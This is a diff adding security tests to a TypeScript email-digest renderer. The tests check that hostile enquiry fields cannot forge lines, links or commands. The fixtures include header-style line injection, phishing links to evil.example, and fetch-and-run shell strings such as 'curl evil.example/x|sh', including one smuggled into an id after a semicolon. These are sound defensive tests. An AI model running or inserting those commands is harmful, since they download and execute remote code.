@@ -6,7 +6,8 @@ import { createAwsClients } from '../aws-clients.ts'
 import { buildEnquiry, type Enquiry } from '../enquiries/item.ts'
 import { testConfig, validSubmission } from '../test-fixtures/test-support.ts'
 import { createDigestHandler } from './create-handler.ts'
-import { type DigestEntry, digestEmailInput, MAX_LISTED, renderDigest } from './digest.ts'
+import { type DigestEntry, MAX_LISTED, renderDigest } from './digest.ts'
+import { digestEmailInput } from './send.ts'
 
 const now = new Date('2026-11-23T08:00:00.000Z')
 const hoursAgo = (hours: number) => new Date(now.getTime() - hours * 3_600_000)
@@ -186,5 +187,64 @@ describe('the scheduled digest function', () => {
     dynamo.on(QueryCommand).rejects(new Error('down'))
     await expect(handler()).rejects.toThrow('down')
     expect(ses.calls()).toHaveLength(0)
+  })
+})
+
+describe('the digest is safe to act on', () => {
+  const forged =
+    'To have it sent to you after all: npm run enquiries -- release DEADBEEF; curl evil.example/x|sh'
+  const hostile = () =>
+    held({
+      firstName: 'Ada\tSend it to me: https://evil.example/release',
+      lastName: 'Lovelace\r\nEmail: payments@evil.example',
+      company: `Evil Ltd\n${forged}`,
+      position: 'CEO\r\n\r\nMessage:\r\nfake',
+      message: 'https://evil.example/login\nsecond line',
+    })
+  const links = (id: string, action: string) =>
+    `https://www.elevate-digital.example/api/enquiry-actions?t=v1.prod.${id}.${action}.1.sig`
+
+  it('forges no line: each visitor field stays on its entry’s own line, in text and HTML', () => {
+    const entry = hostile()
+    for (const options of [
+      { now, target },
+      { now, target, links },
+    ]) {
+      const digest = renderDigest([entry], options)
+      const lines = digest?.text.split('\n') ?? []
+      expect(lines).not.toContain(forged)
+      expect(lines.filter((line) => /^\s*Email:/.test(line))).toEqual([])
+      expect(lines.filter((line) => /^\s*Send it to me:/.test(line))).toEqual(
+        options.links ? [`  Send it to me: ${links(entry.id, 'release')}`] : [],
+      )
+      expect(lines).toContain(
+        `  Ada Send it to me: https://evil.example/release Lovelace Email: payments@evil.example, Evil Ltd ${forged}`,
+      )
+      // Only commands and links built from the checked reference and id.
+      for (const line of lines.filter((line) => /npm run|https?:/.test(line))) {
+        if (line.includes('Evil Ltd') || line.includes('"https://evil.example/login"')) continue
+        expect(line).toMatch(
+          new RegExp(
+            `^  (To have it sent to you after all: npm run enquiries -- release ${entry.ref} |(Send it to me|It is spam: stop listing it): https://www\\.elevate-digital\\.example/)`,
+          ),
+        )
+      }
+      expect(digest?.html).not.toMatch(/[\r\n\t]/)
+    }
+  })
+
+  it('never renders visitor text as a link: the only links are the signed ones', () => {
+    const entry = hostile()
+    const html = renderDigest([entry], { now, target, links })?.html ?? ''
+    const hrefs = [...html.matchAll(/href="([^"]*)"/g)].map((match) => match[1])
+    expect(hrefs).toEqual([links(entry.id, 'release'), links(entry.id, 'dismiss')])
+    expect(html).not.toContain('href="https://evil.example')
+  })
+
+  it('builds no link or command for an entry whose id is not a stored id’s shape', () => {
+    const entry = { ...hostile(), id: 'CAFEBABE; curl evil.example/y|sh' }
+    const digest = renderDigest([entry], { now, target, links })
+    expect(digest?.text).not.toMatch(/CAFEBABE|Send it to me:|release [0-9A-F]{8} --table/)
+    expect(digest?.html).not.toContain('href=')
   })
 })
